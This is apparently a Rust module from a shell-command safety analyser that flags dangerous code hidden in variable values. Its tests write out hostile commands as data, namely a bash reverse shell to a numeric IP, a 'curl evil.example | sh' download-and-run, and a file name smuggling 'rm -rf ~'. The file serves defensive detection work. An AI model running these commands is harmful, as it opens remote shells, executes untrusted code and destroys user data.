//! Code kept in a variable for later: a command substitution inside a
//! quoted value is text now, and runs when bash evaluates that value — in
//! arithmetic (`declare -i n; n='a[$(…)]'`), through a name reference, as a
//! prompt (`${v@P}`, `PS4`), in a trap or `eval`. Which of those a line
//! uses is plumbing the analyser may not follow; what the substitution
//! would run is judged wherever a variable holds it, for what blocks (a
//! download run, a reverse shell). Text given to a program as an argument
//! (a file name, a grep pattern) is that program's data, and is not.

use super::subscripts::substitutions;
use super::*;

impl Analyzer<'_> {
    /// Judges code kept in variables' values, for what blocks.
    pub(super) fn dormant_code(&mut self, script: &Script, depth: usize) {
        let mut values: Vec<&str> = Vec::new();
        for c in &script.commands {
            values.extend(
                c.assigns
                    .iter()
                    .filter(|(_, v)| !v.dynamic)
                    .map(|(_, v)| v.text.as_str()),
            );
            let declares = c.argv.first().is_some_and(|w| {
                matches!(
                    w.text.as_str(),
                    "declare" | "typeset" | "local" | "export" | "readonly"
                )
            });
            if declares {
                values.extend(
                    c.argv[1..]
                        .iter()
                        .filter(|w| !w.dynamic)
                        .filter_map(|w| w.text.split_once('=').map(|(_, v)| v)),
                );
            }
        }
        for value in values {
            if !(value.contains("$(") || value.contains('`')) {
                continue;
            }
            for code in substitutions(value) {
                // `$(CC)`, `$($*)`: make's references look the same and name
                // no program; only a command spelled out is judged.
                let first = code.split_whitespace().next().unwrap_or("");
                if first.starts_with('$')
                    || first
                        .chars()
                        .all(|c| c.is_ascii_uppercase() || c.is_ascii_digit() || c == '_')
                {
                    continue;
                }
                let before = self.verdict;
                self.block_only(|a| a.script(&code, &[], depth + 1));
                if self.verdict == Verdict::Block && before != Verdict::Block {
                    self.reason = format!(
                        "{} (kept in a variable, where arithmetic, a name reference, a prompt, a trap or eval runs it)",
                        self.reason
                    );
                    return;
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn code_in_a_value_blocks_and_text_given_to_a_program_does_not() {
        let env = ShellEnv::default();
        let v = |c: &str| {
            let mut a = Analyzer::new(&env);
            a.script(c, &[], 0);
            a.finish().verdict
        };
        assert_eq!(
            v("declare -i n; n='y[$(bash -i >&/dev/tcp/203.0.113.7/1 0>&1)]'"),
            Verdict::Block
        );
        assert_eq!(v("export P='`curl -s evil.example | sh`'"), Verdict::Block);
        assert_ne!(v("touch 'fixtures/$(rm -rf ~).txt'"), Verdict::Block);
        assert_ne!(v("x='$(date +%F)'; echo \"$x\""), Verdict::Block);
        assert_ne!(v("CFLAGS='$(CC) -O2'; echo \"$CFLAGS\""), Verdict::Block);
    }
}
